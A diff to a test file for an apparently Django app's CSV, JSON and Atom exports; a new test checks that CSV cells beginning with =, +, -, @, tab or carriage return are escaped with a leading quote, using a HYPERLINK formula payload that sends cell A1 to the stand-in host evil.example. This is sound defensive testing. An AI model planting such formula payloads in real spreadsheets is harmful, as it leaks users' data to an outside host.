@@ -215,6 +215,29 @@ def test_csv_exports_carry_the_text_as_data(client, hostile):
     assert (row["title"], row["place"]) == (hostile["meeting"].title, f"Placename {EVIL}")
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(client, hostile, start):
+    formula = f'{start}HYPERLINK("http://evil.example/x?"&A1,"Click")'
+    report = hostile["report"]
+    report.body = f"{report.body}\n\n{formula}"
+    report.save()
+    claim = Claim.objects.create(
+        report=report,
+        meeting=hostile["meeting"],
+        delegation=hostile["claim"].delegation,
+        text=formula,
+        start=report.body.index(formula),
+        end=report.body.index(formula) + len(formula),
+        is_public=True,
+    )
+    rows = csv_rows(client.get("/claims/?format=csv"))
+    row = next(r for r in rows if r["claim_id"] == str(claim.pk))
+    assert row["text"] == "'" + formula
+    # The JSON export keeps the words exactly.
+    data = client.get("/claims/?format=json").json()
+    assert any(c["text"] == formula for c in data["results"])
+
+
 ATOM = "{http://www.w3.org/2005/Atom}"
 
 
@@ -228,7 +251,9 @@ def test_the_feed_is_xml_with_the_text_as_data(client, hostile):
         assert response.status_code == 200, url
         feed = ElementTree.fromstring(response.content)
         entry = next(e for e in feed.iter(f"{ATOM}entry") if "Quokka" in e.findtext(f"{ATOM}title"))
-        assert entry.findtext(f"{ATOM}summary") == CLAIM
+        # Plain text, so a feed reader shows the payload and never renders it as HTML.
+        summary = entry.find(f"{ATOM}summary")
+        assert (summary.get("type"), summary.text) == ("text", CLAIM)
         assert entry.findtext(f"{ATOM}author/{ATOM}name") == hostile["person"].name
         categories = [c.get("term") for c in entry.iter(f"{ATOM}category")]
         assert categories == [f"Xylophone {EVIL}"]
